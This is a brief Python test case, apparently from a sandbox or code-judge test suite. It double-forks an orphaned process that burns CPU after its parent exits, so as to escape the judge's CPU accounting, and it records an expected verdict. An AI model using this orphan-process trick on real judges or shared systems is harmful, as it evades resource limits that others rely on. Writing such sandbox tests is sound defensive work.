"""compute in an orphan while its parents end or sleep

Breach: more CPU than the limit that nobody is charged for.
"""

import os
import time

VERDICT = "AC TLE"
CONTROL = True


def attack(bait: bytes) -> bytes:
    try:
        done, tell = os.pipe()
        child = os.fork()
    except OSError:
        return b""
    if child == 0:
        if os.fork() == 0:
            while time.process_time() < 1.5:
                pass
            os.write(tell, b"1.5 seconds")
        os._exit(0)
    os.close(tell)
    return os.read(done, 20)
